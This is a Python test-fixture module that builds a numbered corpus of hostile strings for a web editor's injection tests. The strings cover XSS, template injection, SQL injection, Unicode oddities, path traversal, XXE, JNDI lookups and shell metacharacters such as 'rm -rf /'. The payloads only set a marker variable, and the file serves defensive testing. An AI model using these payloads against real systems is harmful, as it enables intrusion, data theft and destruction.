"""A deterministic corpus of hostile strings for the injection tests (tests/test_injection.py).

Every string starts with its own marker, ``H001`` to ``H2xx``, so it can be found on a page
and in a failure message. Payloads that would run set ``window.__pwned`` to the string's
number (or call ``alert`` with it): a browser test that finds ``window.__pwned`` set knows
which string ran.

Categories: HTML and attribute injection, closing tags of raw-text elements (``</script>``),
JavaScript template-string breakouts, Jinja and other template syntaxes, SQL fragments,
Unicode oddities, control characters and whitespace, other languages' metacharacters, and
very long strings (10,000+ characters).

What the corpus leaves out, on purpose:

- NUL (U+0000): no PostgreSQL text column can hold it, so the editor refuses it with a
  message on the form (see ``NUL_STRINGS``; the test checks the message for every field).
- Lone surrogates (U+D800..U+DFFF): not Unicode scalar values, so they have no UTF-8
  form and cannot be sent, stored or shown. A browser sends U+FFFD for one (the WHATWG
  encoding of a form is of scalar values only); raw bytes ED A0 BD that a script sends
  anyway reach the atlas as U+FFFD (multipart forms) or as the literal text ``%ED%A0%BD``
  (url-encoded forms): never as a surrogate. The test checks both.
- A leading or trailing space: the editor trims every field, like the seed loader.
"""

from __future__ import annotations

from dataclasses import dataclass

LONG = 10_000


@dataclass(frozen=True)
class Hostile:
    number: int
    category: str
    text: str

    @property
    def marker(self) -> str:
        return f"H{self.number:03d}"

    @property
    def single_line(self) -> bool:
        """A text input (and a passage, so a quote) holds one line."""
        return "\n" not in self.text and "\r" not in self.text

    @property
    def long(self) -> bool:
        return len(self.text) > 300


# "PWN" becomes `window.__pwned=N` and "ALERT" becomes `alert(N)`, N the string's number.
HTML = [
    "<script>PWN</script>",
    "<SCRIPT>ALERT</SCRIPT>",
    '<img src=x onerror="PWN">',
    "<img src=x onerror=PWN>",
    "<IMG SRC=x OnErRoR=ALERT>",
    "<svg onload=PWN>",
    "<svg><script>PWN</script></svg>",
    "<svg><animate onbegin=PWN attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN>",
    '<iframe srcdoc="<script>parent.PWN</script>"></iframe>',
    "<iframe src=javascript:PWN></iframe>",
    "<body onload=PWN>",
    "<details open ontoggle=PWN>",
    "<video><source onerror=PWN></video>",
    "<audio src=x onerror=PWN>",
    '<a href="javascript:PWN">a link</a>',
    "<input autofocus onfocus=PWN>",
    "<select autofocus onfocus=PWN>",
    "<marquee onstart=PWN>",
    '<object data="javascript:PWN"></object>',
    '<embed src="javascript:PWN">',
    '<form action="javascript:PWN"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    "<base href=//example.invalid/>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<template><img src=x onerror=PWN></template>",
    '<noscript><p title="</noscript><img src=x onerror=PWN>">',
    "<!-- a comment --><img src=x onerror=PWN>",
    "<![CDATA[<img src=x onerror=PWN>]]>",
    "<<script>PWN//<</script>",
    "<scr<script>ipt>PWN</scr</script>ipt>",
    "<b>bold</b> <i>italic</i> <u>under</u>",
    "&lt;b&gt;not bold&lt;/b&gt; &amp;amp; &#36;{x} &#x3C;script&#x3E;",
    "&quot;quoted&quot; &#39;single&#39; &nbsp; &copy; &NotAnEntity;",
    "<plaintext>everything after",
    "<xmp><img src=x onerror=PWN></xmp>",
    "<table><tr><td>cell</td></tr></table><img src=x onerror=PWN>",
    "<div style=\"background:url('javascript:PWN')\">x</div>",
    '<img src="x" onerror="&#119;indow.__pwned=1">',
    "<isindex type=image src=1 onerror=PWN>",
    "<custom-element onclick=PWN>click</custom-element>",
]

ATTRIBUTE = [
    '" onmouseover="PWN',
    "' onmouseover='PWN",
    '" autofocus onfocus="PWN" x="',
    "' autofocus onfocus='PWN' x='",
    '"><img src=x onerror=PWN>',
    "'><svg onload=PWN>",
    "` onmouseover=PWN `",
    "x onmouseover=PWN",
    '" style="position:fixed;inset:0" onmousemove="PWN',
    '"/><script>PWN</script>',
    '" data-x="1" title="injected',
    "javascript:PWN",
    "JaVaScRiPt:ALERT",
    "data:text/html,<script>PWN</script>",
    "vbscript:msgbox(1)",
    '" href="javascript:PWN',
    '"; PWN; "',
    "'; PWN; '",
    "\"'></a><img src=x onerror=PWN>",
    '" onfocus=PWN tabindex=0 id="',
]

CLOSING = [
    "</script><script>PWN</script>",
    "</SCRIPT><SCRIPT>ALERT</SCRIPT>",
    "</script ><img src=x onerror=PWN>",
    "</script\t><img src=x onerror=PWN>",
    "</script",
    "<\\/script><script>PWN</script>",
    "<!--<script>PWN</script>-->",
    "--></script><script>PWN</script>",
    "]]></script><script>PWN</script>",
    "</style><img src=x onerror=PWN>",
    "</textarea><img src=x onerror=PWN>",
    "</title><img src=x onerror=PWN>",
    "</noscript><img src=x onerror=PWN>",
    "</iframe><img src=x onerror=PWN>",
    "</template><img src=x onerror=PWN>",
    "</option></select><img src=x onerror=PWN>",
    "</svg></math><img src=x onerror=PWN>",
    "</div></div></div></body></html><img src=x onerror=PWN>",
]

TEMPLATE_STRING = [
    "${PWN}",
    "`${PWN}`",
    "\\`;PWN;//",
    "\\\\`;PWN;//",
    "`+PWN+`",
    "`;PWN;`",
    "\\${PWN}",
    "$${PWN}",
    "${`${PWN}`}",
    '"+PWN+"',
    "';PWN;//",
    '";PWN;//',
    "\\x3cimg src=x onerror=PWN\\x3e",
    "\\u003cimg src=x onerror=PWN\\u003e",
    "\\",
    "ends with a backslash \\",
    "String.raw`${PWN}`",
    "${constructor.constructor('PWN')()}",
    "`)</script><script>PWN</script>",
    "$(`<img src=x onerror=PWN>`)",
    "\\n\\r\\t\\0\\b (escapes as text)",
    "`\u2028PWN`",
    "${'${'}${'}'}",
    "$ { } ` \\ all apart",
]

JINJA = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].getcwd() }}",
    "{% if true %}X{% endif %}",
    "{% for x in range(3) %}x{% endfor %}",
    "{% set x = 49 %}{{ x }}",
    "{% include 'base.html' %}",
    "{% extends 'base.html' %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{% endraw %}",
    "{# a Jinja comment #}",
    "{{citation needed}}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{#",
    "{{ 7*7 }",
    "{{- 7*7 -}}",
    "{%- if 1 -%}Y{%- endif -%}",
    "{{ '%s'|format(7*7) }}",
    "{{ [].__class__ }}",
    "{{ constructor.constructor('PWN')() }}",
    "#{7*7} <%= 7*7 %> ${{7*7}} [[7*7]] @(7*7) {{=7*7}}",
    "{{#each items}}{{this}}{{/each}}",
    "{0} {1} {} {!r} {name}",
    "%s %d %(name)s %n %x",
    "{x}/{y}/{z}/{s}.png",
]

SQL = [
    "'; DROP TABLE journeys; --",
    '" OR 1=1 --',
    "' OR '1'='1",
    "' OR 1=1; --",
    "1; DELETE FROM sources",
    "Robert'); DROP TABLE users;--",
    "' UNION SELECT name, password_hash FROM users --",
    "'; UPDATE users SET role='admin' WHERE '1'='1",
    "%' --",
    "\\'; --",
    "$$; DROP TABLE places; $$",
    "$tag$ x $tag$",
    "E'\\x41' || chr(65)",
    "'||pg_sleep(5)--",
    "1' AND SLEEP(5)#",
    "/* comment */ SELECT 1 -- tail",
    "100% _underscore_ \\% LIKE '%a_%'",
    "'; COPY users TO '/tmp/x'; --",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
    "' AND 1=CAST((SELECT version()) AS int) --",
]

UNICODE = [
    "\u202eevil\u202c, right-to-left override",
    "\u202dforced left-to-right\u202c",
    "\u2067isolate\u2069 \u2066and\u2069 \u2068first strong\u2069",
    "\u200fright mark \u200eleft mark",
    "zero\u200dwidth\u200djoiner",
    "zero\u200cwidth\u200cnon\u200cjoiner",
    "zero\u200bwidth\u200bspace",
    "word\u2060joiner and\ufeffBOM inside",
    "family \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "astral \U0001f9e8\U0001f600\U0001f30f \U0001d400\U0001d401 \U00010348",
    "flags \U0001f1f0\U0001f1f7 \U0001f1f0\U0001f1f5 "
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "skin tones \U0001f44d\U0001f3fd \U0001f44b\U0001f3ff",
    "combining: e\u0301 a\u0300 n\u0303 o\u0308 \u0915\u094d\u0937",
    "Z\u0351\u0300\u0316\u0329a\u0352\u035b\u0353l\u0344\u0317g\u0310\u0353o\u0301\u0300\u0316",
    "overlay s\u0338l\u0336a\u0335s\u0337h",
    "\u0301\u0302\u0303 marks with no base",
    "NFC \u00c5 and NFD A\u030a stay different",
    "Hangul composed \ud55c\uad6d and decomposed \u1112\u1161\u11ab\u1100\u116e\u11a8",
    "\uc870\uc120\ubbfc\uc8fc\uc8fc\uc758\uc778\ubbfc\uacf5\ud654\uad6d \ud0c8\ubd81\ubbfc",
    "\u5317\u671d\u9c9c \u4e2d\u534e\u4eba\u6c11\u5171\u548c\u56fd "
    "\u0420\u043e\u0441\u0441\u0438\u044f",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 mixed \u05e2\u05d1\u05e8\u05d9\u05ea 123",
    "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22 \u0ea5\u0eb2\u0ea7 Ti\u1ebfng Vi\u1ec7t",
    "no-break\u00a0space, narrow\u202fno-break, figure\u2007space",
    "ideographic\u3000space and thin\u2009space and hair\u200aspace",
    "line\u2028separator and paragraph\u2029separator",
    "soft\u00adhyphen in\u00adcompre\u00adhensible",
    "variation \u2764\ufe0f \u2764\ufe0e \u0030\ufe0f\u20e3",
    "tag chars \U000e0041\U000e0042 private use \ue000\uf8ff",
    "noncharacters \ufdd0 \ufffe \uffff",
    "replacement \ufffd and object \ufffc",
    "fullwidth \uff1cscript\uff1e\uff50\uff57\uff4e\uff1c/script\uff1e",
    "homoglyphs \u0455\u0441r\u0456\u0440t \u0430l\u0435rt(1)",
    "small \ufe64script\ufe65 and \u2039angle\u203a \u00abguillemets\u00bb",
    "greek question mark \u037e and semicolon ;",
    "ligature \ufb01 \ufb02 and \u2126 \u212b \u00b5",
    "math \u2200x\u2208\u211d: x\u00b2 \u2265 0 \u2260 \u221e",
    "supplementary \U00020000\U0002a6d6 \U0010fffd",
    "musical \U0001d11e and cuneiform \U00012000",
    "fraction\u2044slash and division\u2215slash and \u2216",
    "\u2028x, a line separator first",
    "RTL isolate end only\u2069",
    "\u200b",
    "emoji modifier alone \U0001f3fd and ZWJ alone \u200d",
    "quotes \u201csmart\u201d \u2018single\u2019 \u201e\u201c \u300c\u300d",
    "combining grapheme joiner a\u034fb",
    "Mongolian vowel separator a\u180eb",
    "interlinear \ufff9annotated\ufffathing\ufffb",
]

CONTROL = [
    "escape \x1b[31mred\x1b[0m",
    "delete\x7fchar",
    "back\x08space",
    "bell\x07 and vertical\x0btab",
    "form\x0cfeed",
    "unit\x1fseparator \x1c\x1d\x1e end",
    "C1 controls \x85 \x9b \x9f",
    "tab\there and\tthere",
    "many     spaces   inside",
    "two\nlines",
    "first\n\nthird line, blank between",
    "windows\r\nnewline",
    "old mac\rnewline",
    "trailing spaces on a line   \nnext",
]

OTHER = [
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%3Cscript%3EPWN%3C%2Fscript%3E",
    "%253Cscript%253E",
    "%0d%0aSet-Cookie: pwned=1",
    "%00 and \\x00 and \\0 as text",
    "${jndi:ldap://example.invalid/a}",
    "$(id) `id` ; rm -rf / || true && echo",
    '<!--#exec cmd="id"-->',
    "<?php echo 'PWN'; ?>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
    '=HYPERLINK("http://example.invalid","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1 -1-1",
    "[a link](javascript:PWN) ![img](x onerror=PWN)",
    "**bold** _em_ `code` # heading",
    '"}]}, {"injected": true, "x": [{"',
    '\\" \\\\" \\u0022 \\/',
    "!!python/object/apply:os.system ['id']",
    "__proto__ constructor prototype",
    "NaN Infinity -0 1e309 0x41 undefined null",
    "expression(PWN) url(javascript:PWN) @import 'x.css';",
    "</a><a href=//example.invalid>phish</a>",
    "\u00a0<script>PWN</script>\u00a0end",
    "mailto:x@example.invalid?subject=<script>",
    '#leg-1" onclick="PWN',
    "?cite=x&classroom=1#p-1",
    "&#0; &#x0; &#xD800; &#1114112;",
]


def _long_strings() -> list[str]:
    return [
        "long run of letters " + "A" * LONG,
        "long payload " + "<img src=x onerror=PWN>" * (LONG // 23 + 1),
        "long Jinja " + "{{ 7*7 }}" * (LONG // 9 + 1),
        "long template string " + "`${PWN}`\\" * (LONG // 10 + 1),
        "long astral " + "\U0001f9e8\U0001f469\u200d\U0001f467" * (LONG // 4 + 1),
        "long words " + " ".join(f"word{n}" for n in range(LONG // 6 + 1)),
        "long combining " + "e\u0301" * (LONG // 2 + 1),
        "long script " + "</script><script>PWN</script>" * (LONG // 28 + 1),
    ]


CATEGORIES: list[tuple[str, list[str]]] = [
    ("html", HTML),
    ("attribute", ATTRIBUTE),
    ("closing-tag", CLOSING),
    ("template-string", TEMPLATE_STRING),
    ("jinja", JINJA),
    ("sql", SQL),
    ("unicode", UNICODE),
    ("control", CONTROL),
    ("other", OTHER),
    ("long", _long_strings()),
]


def _arm(text: str, number: int) -> str:
    return text.replace("PWN", f"window.__pwned={number}").replace("ALERT", f"alert({number})")


def build_corpus() -> list[Hostile]:
    corpus: list[Hostile] = []
    for category, payloads in CATEGORIES:
        for payload in payloads:
            number = len(corpus) + 1
            # Browsers send a textarea's line breaks as CRLF; the atlas stores LF: the
            # corpus holds what the editor stores.
            text = f"H{number:03d} {_arm(payload, number)}".replace("\r\n", "\n")
            corpus.append(Hostile(number, category, text.replace("\r", "\n")))
    return corpus


CORPUS = build_corpus()
NUL_STRINGS = ["H900 before\x00after", "\x00", "H901 <script>\x00PWN</script>"]
LONE_SURROGATE = b"%ED%A0%BD"  # U+D83D, half of an astral character, as WTF-8 bytes

assert len(CORPUS) >= 200, len(CORPUS)
assert len({h.text for h in CORPUS}) == len(CORPUS)
assert all(h.text == h.text.strip() for h in CORPUS), "the editor trims every field"
assert all("\x00" not in h.text for h in CORPUS)
assert sum(len(h.text) >= LONG for h in CORPUS) >= 5
